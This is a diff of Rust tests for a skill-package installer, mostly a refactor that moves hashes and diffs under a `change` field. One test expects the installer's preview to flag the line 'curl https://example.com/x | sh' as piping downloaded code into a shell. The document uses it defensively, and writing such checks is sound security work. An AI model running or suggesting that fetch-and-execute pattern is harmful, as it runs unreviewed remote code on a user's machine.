@@ -5,7 +5,7 @@ use std::fs;
 use tool_sdk::{ErrorKind, ProgramFolders};
 
 use super::*;
-use crate::skills::pins::PinState;
+use crate::packages::pins::PinState;
 
 struct PlanFolders {
     _temp: tempfile::TempDir,
@@ -18,7 +18,7 @@ fn folders() -> PlanFolders {
     let path = temp.path().canonicalize().unwrap();
     let mut folders = ProgramFolders::default();
     folders.state = Some(path.join("state"));
-    let places = SkillPlaces { roots: vec![path.join("root")], folders };
+    let places = SkillPlaces { roots: vec![path.join("root")], folders, ..SkillPlaces::default() };
     fs::create_dir(path.join("root")).unwrap();
     PlanFolders { _temp: temp, path, places }
 }
@@ -53,16 +53,19 @@ fn a_plan_shows_all_text_and_marks_lines() {
     folders.write("new/references/more.md", &"line\n".repeat(3000));
     folders.write("new/logo.png", "\0");
     let plan = folders.plan("new", None).unwrap();
-    let diff = plan.diff();
+    let diff = plan.change.diff();
     assert!(diff.starts_with("--- /dev/null\n+++ SKILL.md\n"), "{diff}");
     assert_eq!(diff.matches("\n+line").count(), 3000);
     assert!(diff.contains("[logo.png: 1 bytes that are not text]"), "{diff}");
     let preview = plan.preview();
     let mark = "SKILL.md:7: pipes into an interpreter: curl https://example.com/x | sh";
     assert_eq!(preview["lines to look at"], json!([mark]));
-    assert_eq!(preview["content hash"], json!(plan.hash));
+    assert_eq!(preview["content hash"], json!(plan.change.hash));
     let text = plan.describe();
-    assert!(text.contains(mark) && text.contains(&plan.hash) && text.contains(&diff), "{text}");
+    assert!(
+        text.contains(mark) && text.contains(&plan.change.hash) && text.contains(&diff),
+        "{text}"
+    );
     assert!(!folders.path.join("state").exists(), "a plan changes nothing");
 }
 
@@ -73,13 +76,13 @@ fn an_update_shows_the_difference_and_changes_the_pin() {
     folders.write("new/old.md", "old\n");
     let first = folders.plan("new", None).unwrap();
     first.carry_out(&folders.places).unwrap();
-    let pins = SkillPins::new(&folders.path.join("state"));
-    assert_eq!(pins.find(&first.folder()).unwrap().hash, first.hash);
+    let pins = skill_pins(&folders.path.join("state"));
+    assert_eq!(pins.find(&first.folder()).unwrap().hash, first.change.hash);
 
     fs::remove_file(folders.path.join("new/old.md")).unwrap();
     folders.write("new/SKILL.md", &skill("helper").replace("# Steps", "# Other steps"));
     let second = folders.plan("new", None).unwrap();
-    let diff = second.diff();
+    let diff = second.change.diff();
     assert!(diff.contains("-# Steps\n+# Other steps\n"), "{diff}");
     assert!(diff.contains("--- old.md\n+++ /dev/null\n"), "{diff}");
     // What changed between plan and installation is a conflict.
@@ -90,7 +93,7 @@ fn an_update_shows_the_difference_and_changes_the_pin() {
     fs::write(&installed, "old\n").unwrap();
     second.carry_out(&folders.places).unwrap();
     assert!(!installed.exists());
-    assert_eq!(pins.find(&second.folder()).unwrap().hash, second.hash);
+    assert_eq!(pins.find(&second.folder()).unwrap().hash, second.change.hash);
 }
 
 // SK5: a change of the text does not vouch for other files, which it does not show.
@@ -107,7 +110,7 @@ fn an_update_refuses_files_that_have_changed() {
         SkillPlan::for_changed_text(&folder, SkillScope::User, text, &folders.places)
     };
     update().unwrap().carry_out(&folders.places).unwrap();
-    let pins = SkillPins::new(&folders.path.join("state"));
+    let pins = skill_pins(&folders.path.join("state"));
     assert!(matches!(pins.check(&installed.folder()), PinState::Unchanged(_)));
     fs::write(installed.folder().join("run.sh"), "echo two\n").unwrap();
     let error = update().unwrap_err();
@@ -126,27 +129,27 @@ fn files_and_pin_are_written_together() {
     // A file in the place of the pins.
     folders.write("state/skill-pins", "");
     let error = plan.carry_out(&folders.places).unwrap_err();
-    assert!(error.message().contains("cannot record the skill"), "{}", error.message());
+    assert!(error.message().contains("cannot record the package"), "{}", error.message());
     assert!(!plan.folder().exists());
     fs::remove_file(folders.path.join("state/skill-pins")).unwrap();
 
     // A file in the place of the skills.
     folders.write("state/skills", "");
     plan.carry_out(&folders.places).unwrap_err();
-    let pins = SkillPins::new(&folders.path.join("state"));
+    let pins = skill_pins(&folders.path.join("state"));
     assert_eq!(pins.find(&plan.folder()), None);
     fs::remove_file(folders.path.join("state/skills")).unwrap();
     plan.carry_out(&folders.places).unwrap();
-    assert_eq!(pins.find(&plan.folder()).unwrap().hash, plan.hash);
+    assert_eq!(pins.find(&plan.folder()).unwrap().hash, plan.change.hash);
 
     // A failed replacement keeps the pin of the files that stay.
     folders.write("new/SKILL.md", &(skill("helper") + "More.\n"));
     let mut second = folders.plan("new", None).unwrap();
     let bytes = Vec::new();
     let unwritable = PackageFile { bytes, is_executable: false };
-    second.package.files.insert("SKILL.md/inside".to_owned(), unwritable);
+    second.change.package.files.insert("SKILL.md/inside".to_owned(), unwritable);
     second.carry_out(&folders.places).unwrap_err();
-    assert_eq!(pins.find(&plan.folder()).unwrap().hash, plan.hash);
+    assert_eq!(pins.find(&plan.folder()).unwrap().hash, plan.change.hash);
     assert!(matches!(pins.check(&plan.folder()), PinState::Unchanged(_)));
 }
 
@@ -161,7 +164,7 @@ fn one_skill_of_several_is_chosen() {
     assert!(error.suggestion().unwrap().contains("`skills/a`, `skills/b`"), "{error:?}");
     assert!(!error.suggestion().unwrap().contains("inner"));
     let plan = folders.plan("repo", Some("a")).unwrap();
-    assert_eq!((plan.name.as_str(), plan.package.files.len()), ("a", 2));
+    assert_eq!((plan.name.as_str(), plan.change.package.files.len()), ("a", 2));
     assert!(folders.plan("repo", Some("b")).unwrap_err().message().contains("several"));
     assert_eq!(folders.plan("repo", Some("other/b")).unwrap().name, "b");
     assert!(folders.plan("repo", Some("c")).is_err());
